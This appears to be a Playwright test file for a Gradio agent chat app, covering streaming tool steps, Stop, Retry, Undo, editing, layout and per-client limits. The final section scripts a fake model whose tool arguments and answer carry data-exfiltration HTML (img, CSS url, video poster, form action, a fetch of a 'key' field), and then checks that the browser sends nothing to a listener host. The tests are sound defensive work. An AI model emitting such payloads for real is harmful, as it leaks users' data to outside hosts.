"""The chat in a real headless Chromium, as a person uses it: type, press Enter, watch, press Stop.

`SAVE_SCREENSHOTS=docs` refreshes the pictures in docs/ (desktop answer, phone, dark, stopped, error).
"""

import os
import re
import time
from pathlib import Path

import pytest
from llmock.pytest_plugin import LLMock
from llmock.testing import LLMockServer
from playwright.sync_api import expect
from pydantic import SecretStr

import app
from agent import ServerSettings, Settings
from support.browser import DESKTOP, PHONE, ask
from support.fakes import ScriptedChatModel, answer, call, calls
from support.servers import MANY_VISITORS, launch, serving_model
from support.turns import running_turns

pytestmark = [pytest.mark.browser, pytest.mark.slow]


LONG_SUM = " + ".join(["1"] * 16)  # eight parallel calls in step 1
PARALLEL_STEP_1 = re.compile(r"⚡ Step 1: \d+ tool calls in parallel")  # frames may skip counts


@pytest.fixture
def page(visitor, served_app):
    page = visitor.new_page()
    page.goto(served_app)
    return page


@pytest.fixture
def slow_page(visitor, slow_app):
    """A page of the app whose offline model streams at 60 ms a token, for pressing Stop mid-step."""
    page = visitor.new_page()
    page.goto(slow_app)
    return page


@pytest.fixture
def phone(browser, served_app):
    page = browser.new_page(viewport=PHONE, device_scale_factor=2, is_mobile=True, has_touch=True)
    page.goto(served_app)
    yield page
    page.close()


@pytest.fixture(scope="module")
def failing_app():
    """The app with a server key, talking to an OpenAI-compatible server that always fails (500)."""
    with LLMockServer() as server:
        LLMock(server).reset().fail(500, times=None)
        settings = Settings(api_key=SecretStr("sk-test-server"), base_url=server.base_url(), max_retries=1)
        demo = app.create_app(settings, concurrency=4, guard=MANY_VISITORS)
        yield launch(demo, MANY_VISITORS)
        demo.close()


def save_screenshot(page, name: str) -> None:
    if folder := os.environ.get("SAVE_SCREENSHOTS"):
        page.wait_for_timeout(500)  # let expand animations finish
        page.screenshot(path=Path(folder) / name)


def test_a_question_shows_tool_steps_then_the_answer(page, tmp_path):
    started = ask(page, "What is (2 + 3) * (4 + 5)?")
    page.get_by_text("🛠️ add").first.wait_for(timeout=10_000)
    first_tool_step_s = time.perf_counter() - started
    page.get_by_text("(2 + 3) * (4 + 5) =").wait_for(timeout=15_000)
    page.get_by_text("📊 3 steps · 3 tool calls").wait_for(timeout=5_000)
    page.get_by_text("⚡ Step 1: 2 tool calls in parallel").click()
    page.get_by_text("🛠️ add → 9").wait_for()
    page.get_by_text("🛠️ multiply → 45").wait_for()
    assert page.locator("strong", has_text="45").count() >= 1
    print(f"first tool step visible after {first_tool_step_s:.2f} s")
    assert first_tool_step_s < 5
    page.get_by_text("📊 3 steps").click()  # the footer opens to the turn's timeline
    timeline = page.locator("details[open] code")
    timeline.wait_for()
    rows = timeline.inner_text().splitlines()
    assert [row.split()[:2] for row in rows[1:]] == [
        ["1", "model"],
        ["add", "█"],
        ["add", "█"],
        ["2", "model"],
        ["multiply", "█"],
        ["3", "model"],
    ]
    assert rows[2].index("█") == rows[3].index("█"), "the parallel calls overlap on the time axis"
    page.screenshot(path=tmp_path / "chat.png")
    save_screenshot(page, "screenshot.png")


def test_the_backend_line_says_which_model_answers(page):
    page.get_by_text("Offline model (no API key): arithmetic only").wait_for()


def test_stop_keeps_the_partial_answer_marks_it_and_cancels_the_work(slow_page):
    ask(slow_page, "hello, who are you?")
    slow_page.get_by_text("I'm the").wait_for(timeout=10_000)
    slow_page.locator(".stop-button").click()
    slow_page.get_by_text("⏹️ Stopped").wait_for(timeout=5_000)
    deadline = time.monotonic() + 2
    while running_turns() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert running_turns() == 0
    partial = slow_page.get_by_text("I'm the").inner_text()
    assert "OPENAI_API_KEY" not in partial, "the answer should have been cut short"

    ask(slow_page, "what is 2 + 2")
    slow_page.get_by_text("2 + 2 =").wait_for(timeout=20_000)
    slow_page.get_by_text("📊 2 steps").wait_for(timeout=10_000)
    assert slow_page.get_by_text("⏹️ Stopped").count() == 1, "the stop mark stays with the stopped turn"


def test_an_example_runs_when_clicked(page):
    page.get_by_text("What is 1 + 2 + 3 + 4 + 5 + 6 + 7 + 8?").click()
    page.get_by_text("= 36").wait_for(timeout=15_000)
    page.get_by_text("⚡ Step 1: 4 tool calls in parallel").wait_for()


def test_retry_runs_the_last_question_again_cleanly(page):
    ask(page, "what is 6 times 7")
    page.get_by_text("📊 2 steps").wait_for(timeout=10_000)
    page.get_by_role("button", name="Retry").click()
    page.get_by_text("📊 2 steps").wait_for(state="detached", timeout=5_000)  # the old turn goes
    page.get_by_text("📊 2 steps").wait_for(timeout=10_000)  # the new one ends
    assert page.get_by_text("6 * 7 =").count() == 1
    assert page.locator("[data-testid=user]").count() == 1


def test_a_key_typed_in_the_key_panel_changes_the_backend_line_for_this_page_only(page, browser, served_app):
    key_box = page.get_by_label("Your OpenAI API key (optional)")
    assert not key_box.is_visible()
    page.get_by_role("button", name="🔑 Use your own OpenAI key").click()  # no question asked first
    key_box.wait_for()
    assert page.get_by_text("⚙️ Settings").count() == 0, "only Gradio's footer link is called Settings"
    page.get_by_label("Your OpenAI API key (optional)").fill("sk-test-not-a-real-key")
    page.get_by_text("Backend: OpenAI · gpt-4.1-mini (your key, this session only)").wait_for(timeout=5_000)
    other = browser.new_page()
    other.goto(served_app)
    other.get_by_text("Offline model (no API key): arithmetic only").wait_for()
    assert "sk-test-not-a-real-key" not in other.content()
    other.close()


def test_undo_removes_the_last_turn_from_the_history_the_agent_sees(page):
    ask(page, "what is 2 + 3")
    page.get_by_text("📊 2 steps").wait_for(timeout=10_000)
    ask(page, "what is 10 + 10")
    page.get_by_text("10 + 10 =").wait_for(timeout=10_000)
    page.get_by_text("📊 2 steps").nth(1).wait_for(timeout=10_000)
    page.get_by_role("button", name="Undo").click()
    page.get_by_text("10 + 10 =").wait_for(state="detached", timeout=5_000)
    ask(page, "times 4")
    page.get_by_text("5 * 4 =").wait_for(timeout=10_000)


def test_editing_a_question_reruns_the_conversation_from_there(page):
    ask(page, "what is 2 + 3")
    page.get_by_text("📊 2 steps").wait_for(timeout=10_000)
    page.locator("[data-testid=user]").first.hover()
    page.get_by_role("button", name="Edit").first.click()
    page.locator("#agent-chat textarea").first.fill("what is 7 + 8")
    page.get_by_role("button", name="Submit").click()
    page.get_by_text("7 + 8 =").wait_for(timeout=10_000)
    assert page.get_by_text("2 + 3 =").count() == 0


def test_stop_during_parallel_tool_calls_shows_a_stop_line_and_a_footer(slow_page):
    ask(slow_page, LONG_SUM)
    slow_page.get_by_text(PARALLEL_STEP_1).wait_for(timeout=10_000)  # more calls to come
    slow_page.locator(".stop-button").click()
    stopped = slow_page.get_by_text("⏹️ Stopped in step 1")
    stopped.wait_for(timeout=5_000)
    assert stopped.is_visible(), "not hidden inside the collapsed step"
    slow_page.get_by_text("📊 1 step · ").wait_for(timeout=5_000)
    assert running_turns() == 0
    expect(slow_page.locator("#chat-input textarea")).to_be_editable()  # ready for the next question
    save_screenshot(slow_page, "stopped.png")


def bubbles_before_the_last_question(page) -> int:
    """Gradio's "•••" loading bubbles placed above the newest question (they belong below it)."""
    return page.evaluate(
        """() => {
            const last = [...document.querySelectorAll('[data-testid=user]')].at(-1);
            return [...document.querySelectorAll('.message.pending')].filter(
                bubble => bubble.compareDocumentPosition(last) & Node.DOCUMENT_POSITION_FOLLOWING
            ).length;
        }"""
    )


def test_a_follow_up_shows_no_stray_loading_bubble_above_it(page):
    ask(page, "what is 2 + 3")
    page.get_by_text("📊 2 steps").wait_for(timeout=10_000)
    ask(page, "times 4")
    seen = []
    deadline = time.monotonic() + 10
    while page.get_by_text("📊 2 steps").count() < 2 and time.monotonic() < deadline:
        seen.append(bubbles_before_the_last_question(page))
        page.wait_for_timeout(30)
    assert page.get_by_text("5 * 4 =").count() == 1
    assert seen and max(seen) == 0, f"stray bubbles seen in {sum(map(bool, seen))} of {len(seen)} checks"


def test_a_blank_message_is_ignored(page):
    ask(page, "   ")
    page.wait_for_timeout(1_000)
    assert page.locator("[data-testid=user]").count() == 0, "no empty bubble"
    assert page.get_by_text("Message not accepted").count() == 0
    assert page.get_by_text("📊").count() == 0
    assert page.locator("#saved-list tbody tr").count() == 0, "nothing saved"
    ask(page, "what is 1 + 1")
    page.get_by_text("1 + 1 =").wait_for(timeout=10_000)


def test_an_edited_question_reruns_stoppably_and_retitles_the_saved_chat(slow_page):
    ask(slow_page, "what is 2 + 3")
    slow_page.get_by_text("📊 2 steps").wait_for(timeout=20_000)
    slow_page.locator("[data-testid=user]").first.hover()
    slow_page.get_by_role("button", name="Edit").first.click()
    slow_page.locator("#agent-chat textarea").first.fill(LONG_SUM)
    slow_page.get_by_role("button", name="Submit").click()
    slow_page.get_by_text(PARALLEL_STEP_1).wait_for(timeout=10_000)
    slow_page.locator(".stop-button").click()
    slow_page.get_by_text("⏹️ Stopped in step 1").wait_for(timeout=5_000)
    assert running_turns() == 0
    slow_page.locator(".chat-history").get_by_text("1 + 1 + 1").wait_for(timeout=5_000)
    assert slow_page.locator(".chat-history").get_by_text("what is 2 + 3").count() == 0


def test_a_failed_turn_is_one_plain_line_after_one_retry_line(browser, failing_app):
    page = browser.new_page(viewport=DESKTOP)
    page.goto(failing_app)
    page.get_by_role("button", name="🔑 Use your own OpenAI key").wait_for(state="hidden")
    ask(page, "what is 2 + 2?")
    error = page.get_by_text(
        "⚠️ Model server error (2 attempts): The model server had an error (500): Internal"
    )
    error.wait_for(timeout=15_000)
    bot = page.locator("[data-testid=bot]").last
    assert bot.locator(".thought-group").count() == 0, "no expand arrows that open to nothing"
    assert page.get_by_text("🔁").count() == 0 and page.get_by_text("📊").count() == 0
    save_screenshot(page, "error.png")
    page.close()


def test_on_a_phone_the_chat_comes_first_and_nothing_overlaps(phone):
    chat = phone.locator("#agent-chat")
    history = phone.get_by_role("button", name="New chat")
    assert chat.bounding_box()["y"] < PHONE["height"] * 0.4, "the chat starts in the top part of the screen"
    assert history.bounding_box()["y"] > chat.bounding_box()["y"] + chat.bounding_box()["height"]
    box = phone.locator("#chat-input textarea").bounding_box()
    assert box["y"] + box["height"] <= PHONE["height"], "the message box is on the first screen"
    ask(phone, "What is (2 + 3) * (4 + 5)?")
    phone.get_by_text("📊 3 steps").wait_for(timeout=15_000)
    chat.locator(".bubble-wrap").evaluate("wrap => wrap.scrollTo(0, 0)")
    question = phone.locator("[data-testid=user]").first.bounding_box()
    for button in chat.locator(".top-panel button").all():
        box = button.bounding_box()
        assert box["y"] + box["height"] <= question["y"] or box["x"] + box["width"] <= question["x"]
    phone.evaluate("window.scrollTo(0, 0)")
    save_screenshot(phone, "phone.png")


def test_dark_mode_renders_the_answer_and_its_timeline(browser, served_app):
    page = browser.new_page(viewport=DESKTOP, color_scheme="dark")
    page.goto(served_app)
    ask(page, "What is 1 + 2 + 3 + 4 + 5 + 6 + 7 + 8?")
    page.get_by_text("📊 4 steps").wait_for(timeout=15_000)
    page.get_by_text("📊 4 steps").click()
    page.locator("details[open] code").wait_for()
    background = page.evaluate(
        "getComputedStyle(document.querySelector('.gradio-container')).backgroundColor"
    )
    assert sum(map(int, background[background.index("(") + 1 : -1].split(",")[:3])) < 200, background
    save_screenshot(page, "dark.png")
    page.close()


# -- a public link: nothing rendered reaches another host; a busy client is told so -----------


def leaking_answer(leak: str) -> str:
    return "\n\n".join(
        [
            "The answer is **4**.",
            f"<img src={leak}/img>",
            f"![chart]({leak}/markdown-image)",
            f'<div style="background:url({leak}/css)">styled</div>',
            f"<video poster={leak}/poster></video>",
            f"<form action={leak}/form method=post><button>Continue</button></form>",
        ]
    )


@pytest.fixture(scope="module")
def leaky_app(listener):
    """A model whose tool arguments and answer try every way of making the browser fetch `leak`."""
    leak, _ = listener
    model = ScriptedChatModel(
        script=[
            calls(call("add", a=f"`<img src={leak}/arguments>` ``` <img src={leak}/fence>", b=1)),
            answer(leaking_answer(leak)),
        ]
    )
    with serving_model(model) as url:
        yield url


def test_a_model_answer_cannot_make_the_browser_fetch_another_host(browser, leaky_app, listener):
    _, received = listener
    received.clear()
    page = browser.new_page()
    page.goto(leaky_app)
    ask(page, "what is 2 + 2")
    page.get_by_text("📊 2 steps").wait_for(timeout=15_000)
    page.get_by_text("🛠️ add → error").click()  # open the tool call: its arguments render too
    page.get_by_text("The answer is").wait_for()
    page.wait_for_timeout(1_000)
    assert page.get_by_text("<img src=").count() >= 1, "the HTML is shown as text"
    assert page.get_by_role("button", name="Continue").count() == 0
    page.close()
    assert received == []


def test_html_that_slips_into_the_page_still_cannot_reach_another_host(page, listener):
    leak, received = listener
    received.clear()
    page.evaluate(
        """(leak) => {
            document.body.insertAdjacentHTML("beforeend", `
                <img src="${leak}/img"><div style="background: url(${leak}/css)">x</div>
                <video poster="${leak}/poster"></video><link rel="stylesheet" href="${leak}/style">
                <form id="leak" action="${leak}/form" method="post"><input name="key" value="sk"></form>`);
            fetch(`${leak}/fetch`).catch(() => {});
            document.getElementById("leak").submit();
        }""",
        leak,
    )
    page.wait_for_timeout(1_500)
    assert received == []


def test_a_client_with_its_share_running_is_told_so_and_keeps_its_text(browser):
    guard = ServerSettings(max_chats_per_client=1)
    demo = app.create_app(Settings(offline_token_delay_ms=30), guard=guard)
    url = launch(demo, guard)
    first, second = browser.new_page(), browser.new_page()
    try:
        first.goto(url)
        second.goto(url)
        ask(first, " + ".join(["1"] * 30))
        first.get_by_text("🛠️ add").first.wait_for(timeout=10_000)
        ask(second, "what is 2 + 2")
        second.get_by_text("You already have 1 question running").wait_for(timeout=5_000)
        assert second.locator("#chat-input textarea").input_value() == "what is 2 + 2"
        first.locator(".stop-button").click()  # the first question ends: the share is free again
        first.get_by_text("📊").wait_for(timeout=30_000)
        second.get_by_role("textbox").first.press("Enter")
        second.get_by_text("2 + 2 =").wait_for(timeout=10_000)
    finally:
        first.close()
        second.close()
        demo.close()
